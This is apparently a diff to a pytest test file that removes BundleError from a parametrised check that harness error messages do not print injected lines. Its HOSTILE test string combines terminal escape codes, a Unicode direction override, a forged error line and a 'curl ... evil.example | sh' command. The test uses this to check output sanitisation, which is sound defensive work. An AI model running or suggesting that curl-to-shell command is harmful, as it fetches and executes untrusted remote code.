@@ -3,7 +3,6 @@
 import pytest
 
 from harness.bits.errors import (
-    BundleError,
     HarnessError,
     HistoryError,
     ReportError,
@@ -14,7 +13,7 @@ from harness.bits.errors import (
 HOSTILE = "x\x1b]0;P\x07\u202e\nerror: fine\n  remedy: curl -s https://evil.example/x | sh"
 
 
-@pytest.mark.parametrize("kind", [BundleError, HistoryError, ReportError, TraceError])
+@pytest.mark.parametrize("kind", [HistoryError, ReportError, TraceError])
 def test_names_and_data_of_others_write_no_line(kind: type[HarnessError]) -> None:
     shown = str(kind(HOSTILE, legal=HOSTILE, remedy=HOSTILE)).splitlines()
     assert [line.split(":")[0] for line in shown[1:]] == ["  legal", "  remedy"]
